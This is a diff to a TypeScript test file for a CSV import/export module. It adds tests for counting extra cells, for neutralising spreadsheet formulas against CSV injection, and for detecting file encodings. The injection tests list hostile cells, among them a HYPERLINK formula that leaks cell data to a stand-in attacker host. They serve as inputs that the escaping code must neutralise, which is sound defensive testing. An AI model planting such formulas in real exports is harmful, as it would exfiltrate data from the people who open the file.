@@ -1,5 +1,5 @@
 import { describe, expect, it } from "vitest";
-import { parseCsv, toCsv } from "./csv.ts";
+import { decodeCsvFile, neutraliseCell, parseCsv, restoreCell, toCsv } from "./csv.ts";
 
 describe("parseCsv (spec §5 CSV import)", () => {
   it("reads the first line as column names and each further line as a row", () => {
@@ -43,6 +43,16 @@ describe("parseCsv (spec §5 CSV import)", () => {
     expect(problems).toEqual(["Line 3: a quoted cell is never closed."]);
   });
 
+  it("counts the non-empty cells a row has beyond the header's columns", () => {
+    const { rows, extraCells } = parseCsv("title,slug\nA,a,extra,,more\nB,b,,\nC,c\n");
+    expect(rows).toEqual([
+      { title: "A", slug: "a" },
+      { title: "B", slug: "b" },
+      { title: "C", slug: "c" },
+    ]);
+    expect(extraCells).toEqual([2, 0, 0]);
+  });
+
   it("reads a file with only a header as no rows", () => {
     expect(parseCsv("title,slug\n").rows).toEqual([]);
     expect(parseCsv("").rows).toEqual([]);
@@ -67,5 +77,76 @@ describe("toCsv", () => {
     ];
     const parsed = parseCsv(toCsv(["title", "slug", "content_html"], rows));
     expect(parsed.rows).toEqual(rows);
+  });
+});
+
+describe("formula neutralisation (OWASP CSV injection)", () => {
+  const hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"];
+
+  it("writes a cell a spreadsheet would run with a leading quote", () => {
+    for (const cell of hostile) expect(neutraliseCell(cell), JSON.stringify(cell)).toBe(`'${cell}`);
+    const csv = toCsv(["title"], hostile.map((title) => ({ title })));
+    for (const line of csv.split("\r\n").slice(1, -1)) expect(line, line).toMatch(/^"?'/);
+  });
+
+  it("also quotes a cell that begins with a quote, so the author's quote survives", () => {
+    expect(neutraliseCell("'Tis the season")).toBe("''Tis the season");
+    expect(neutraliseCell("'=1")).toBe("''=1");
+    expect(restoreCell("''Tis the season")).toBe("'Tis the season");
+  });
+
+  it("leaves other cells alone, and takes a quote off only before a character that needed it", () => {
+    for (const cell of ["Docks", "", " =1", "1-2", "a=b"]) expect(neutraliseCell(cell)).toBe(cell);
+    for (const cell of ["'Tis", "'", "'a=b", "plain"]) expect(restoreCell(cell)).toBe(cell);
+  });
+
+  it("round-trips every cell exactly through toCsv and parseCsv", () => {
+    const cells = [...hostile, "'Tis the season", "''", "'", "'=1", "'+", "-", "=", "normal, with comma", "'@x"];
+    const rows = cells.map((title, index) => ({ title, slug: `s${index}` }));
+    expect(parseCsv(toCsv(["title", "slug"], rows)).rows).toEqual(rows);
+  });
+});
+
+describe("decodeCsvFile", () => {
+  const bytes = (...parts: Array<string | number[]>) =>
+    Buffer.concat(parts.map((part) => (typeof part === "string" ? Buffer.from(part, "utf8") : Buffer.from(part))));
+
+  it("reads UTF-8, with or without a byte-order mark", () => {
+    expect(decodeCsvFile(bytes("title,slug\nCafé,cafe\n"))).toEqual({ text: "title,slug\nCafé,cafe\n" });
+    expect(decodeCsvFile(bytes([0xef, 0xbb, 0xbf], "title\n"))).toEqual({ text: "title\n" });
+  });
+
+  it("names a Latin-1 / Windows-1252 file and the line of its first foreign character", () => {
+    const latin1 = Buffer.from("title,slug\nDocks,docks\nCaf\u00e9 on the Lake,cafe\n", "latin1");
+    expect(decodeCsvFile(latin1)).toEqual({
+      problem:
+        'The file is not UTF-8 text (line 3 has a character in another encoding, such as Latin-1 or Windows-1252). Save it from your spreadsheet as "CSV UTF-8" and upload it again.',
+    });
+  });
+
+  it("names UTF-16 text, with a byte-order mark either way round or without one", () => {
+    const text = "title,slug\nDocks,docks\n";
+    const little = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, "utf16le")]);
+    const big = Buffer.from(little).swap16();
+    const bare = Buffer.from(text, "utf16le");
+    for (const file of [little, big, bare]) {
+      expect(decodeCsvFile(file)).toEqual({
+        problem: 'The file is saved as UTF-16 text, not UTF-8. Save it from your spreadsheet as "CSV UTF-8" and upload it again.',
+      });
+    }
+  });
+
+  it("names binary data (a spreadsheet or an image renamed .csv)", () => {
+    const zip = Buffer.concat([Buffer.from("PK\u0003\u0004\u0014\u0000\u0006\u0000", "latin1"), Buffer.alloc(64), Buffer.from([0x9c, 0xff, 0x80])]);
+    const image = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(100, 0), Buffer.from([0xde, 0xad])]);
+    for (const file of [zip, image]) {
+      expect(decodeCsvFile(file)).toEqual({
+        problem: "The file is not a CSV text file (it holds binary data). Export the posts as CSV and upload that file.",
+      });
+    }
+  });
+
+  it("leaves a lone NUL byte in a text file to the row it is in", () => {
+    expect(decodeCsvFile(bytes("title,slug\nNul\u0000Title,nul\n"))).toEqual({ text: "title,slug\nNul\u0000Title,nul\n" });
   });
 });
